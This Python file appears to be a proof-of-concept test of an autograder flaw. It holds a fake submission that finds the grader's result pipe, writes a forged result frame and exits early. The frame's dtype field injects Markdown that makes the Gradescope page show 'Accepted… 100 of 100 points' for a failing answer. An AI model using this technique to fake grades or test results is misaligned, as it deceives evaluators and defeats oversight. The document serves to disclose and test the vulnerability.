"""A false verdict in the Gradescope page (Markdown) and PrairieLearn output through the diagnosis.

The report's message is fenced in Gradescope's Markdown (formats/gradescope.py _fenced), but the
diagnosis is not: `**Diagnosis:** {sentence}`. grader/diagnosis.py _check_sentence("dtype") pastes
reply["output"]["dtype"] (any text of up to 200 characters, newlines included: protocol._short_text)
into that sentence, and printable() keeps newlines. A child that writes its own result frame (the
channel is its own; run with --unrestricted) makes its first case's dtype a Markdown block saying
it was accepted with full points. Today: wrong_answer, 0 points, and the page shows the heading
"Accepted: 46 of 46 cases passed; 100 of 100 points". Should: no text of the submission's choosing
outside a fence, or no such text at all (the dtype is one of a known list of names).
"""
import json
import os
import struct
import sys

import torch


def _result_fd():
    for fd in os.listdir("/proc/self/fd"):
        fd = int(fd)
        if fd < 3:
            continue
        try:
            flags = int(open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
            if flags & 3 == 1 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                return fd
        except Exception:
            pass


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    name = sys._getframe(1).f_locals["header"]["name"]
    out = honest(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads)
    secret = "float32)\n\n---\n\n# Accepted: 46 of 46 cases passed; 100 of 100 points.\n\nAll cases passed.\n\n---\n\n<!--"
    header = {"kind": "result", "name": name, "seconds": 0.0,
              "output": {"type": "torch.Tensor", "plain": True, "layout": "torch.strided", "shape": list(out.shape), "dtype": secret[:200], "device": "cpu"},
              "tensors": []}
    data = json.dumps(header).encode()
    os.write(_result_fd(), struct.pack("<Q", len(data)) + data)
    os._exit(0)


import math

import torch


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def honest(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
